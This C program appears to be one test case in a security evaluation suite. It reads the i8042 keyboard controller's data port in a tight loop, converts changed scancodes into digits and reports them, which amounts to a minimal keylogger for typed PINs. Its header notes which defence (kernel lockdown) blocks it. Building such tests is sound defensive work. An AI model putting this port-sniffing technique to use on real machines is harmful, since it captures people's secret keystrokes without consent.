// SPDX-License-Identifier: Apache-2.0
/*
 * Reads the keyboard controller's data port as fast as it can: it holds the last byte
 * until there is another.
 *
 * attack: i8042_port_reader
 * class: input
 * when: session
 * judge: keys
 * unprotected: module
 * spoils: yes
 * defence: boot
 * why: what comes from the port itself no driver can hide; lockdown shuts ioperm()
 *	and /dev/port, and the REE has neither
 */
#include <string.h>

#include "digits.h"
#include "i8042.h"
#include "report.h"

int main(void)
{
	struct digits digits = { 0 };
	uint8_t byte, last = 0;
	int ret;

	attack_init();
	ret = i8042_open();
	attack_ready();
	if (ret)
		attack_failed("no way to the ports: %s", strerror(-ret));
	while (!attack_stopping()) {
		byte = i8042_data();
		if (byte != last)
			digits_add(&digits, digits_of_scancode(byte));
		last = byte;
	}
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
